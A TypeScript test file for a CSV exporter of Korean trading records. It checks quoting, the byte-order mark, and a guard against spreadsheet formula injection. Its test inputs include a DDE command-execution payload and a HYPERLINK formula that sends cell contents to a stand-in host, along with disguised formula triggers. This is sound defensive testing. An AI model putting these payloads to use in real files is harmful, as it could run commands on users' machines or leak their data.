import { parse } from 'csv-parse/sync'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvHead, csvLines } from './csv.ts'
import type { Cell, Column } from './table.ts'

const COLUMNS: readonly Column<readonly [Cell, Cell]>[] = [
  { heading: '이유', cell: ([text]) => text },
  { heading: '손익', cell: ([, amount]) => amount },
]
const written = (text: Cell, amount: Cell = 1): string => csvLines(COLUMNS, [[text, amount]])
const readBack = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: '\r\n' })

describe('a cell', () => {
  test.each<[name: string, cell: Cell, line: string]>([
    ['Korean', '삼성전자', '삼성전자,1\r\n'],
    ['nothing', null, ',1\r\n'],
    ['an empty text', '', ',1\r\n'],
    ['a comma', '삼성전자, 우선주', '"삼성전자, 우선주",1\r\n'],
    ['quotes', '그는 "판다"고 했다', '"그는 ""판다""고 했다",1\r\n'],
    ['a line end', '첫째\n둘째', '"첫째\n둘째",1\r\n'],
    ['a line end of Windows', '첫째\r\n둘째', '"첫째\r\n둘째",1\r\n'],
    ['spaces around', ' 사이 ', '" 사이 ",1\r\n'],
    // Calc splits lines at these too unless it is told otherwise; what comes behind one would begin a cell of its own.
    ['a semicolon before a formula', '메모;=1+1', '"메모;=1+1",1\r\n'],
    ['a tab before a formula', '메모\t=1+1', '"메모\t=1+1",1\r\n'],
    ['a code with leading zeros', '005930', '005930,1\r\n'],
    ['a sign that changes nothing', '상승 +3%', '상승 +3%,1\r\n'],
  ])('%s', (_name, cell, line) => expect(written(cell)).toBe(line))

  test.each([
    '=1+1',
    '=cmd|"/c calc"!A1',
    '+82-10-1234-5678',
    '-3%까지',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '   @a',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
    // What the library's own pattern lets through: a line end behind the sign.
    '=1+1\n2',
    '=HYPERLINK("https://a.example?"&A1,"눌러 주세요")',
  ])('%j is no formula', (text) => {
    const line = written(text)
    expect(line.startsWith(`"'`)).toBe(true)
    expect(readBack(line)).toEqual([[`'${text}`, '1']])
  })

  test.each<[amount: number, text: string]>([
    [-5, '-5'],
    [0, '0'],
    [-0.4, '-0.4'],
    [1_234_567_890_123, '1234567890123'],
    [-1_482, '-1482'],
  ])('the number %d stays one', (amount, text) => expect(written('', amount)).toBe(`,${text}\r\n`))
})

test('a file begins with the mark of UTF-8 and its headings', () => {
  expect(csvHead(COLUMNS)).toBe('\uFEFF이유,손익\r\n')
  expect([...Buffer.from(csvHead(COLUMNS)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(csvLines(COLUMNS, [])).toBe('')
})

/** Texts as people and brokers write them, with all that is special to CSV and to spreadsheets. */
const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc
    .array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', '가', '＝', '1'), {
      maxLength: 8,
    })
    .map((signs) => signs.join('')),
)

test('what is written is read back equal by another program, but for the guard of what looks like a formula', () =>
  fc.assert(
    fc.property(fc.array(fc.tuple(text, fc.integer()), { maxLength: 20 }), (rows) => {
      const [heading, ...lines] = readBack(csvHead(COLUMNS) + csvLines(COLUMNS, rows))
      expect(heading).toEqual(['이유', '손익'])
      expect(lines).toHaveLength(rows.length)
      for (const [at, [wrote, amount]] of rows.entries()) {
        const [read = '', number] = lines[at] ?? []
        expect(Number(number)).toBe(amount)
        const isGuarded = read !== wrote
        expect(isGuarded ? read : `'${wrote}`).toBe(`'${wrote}`)
        expect(/^\s*[=+\-@]/.test(read)).toBe(false)
      }
    }),
  ))
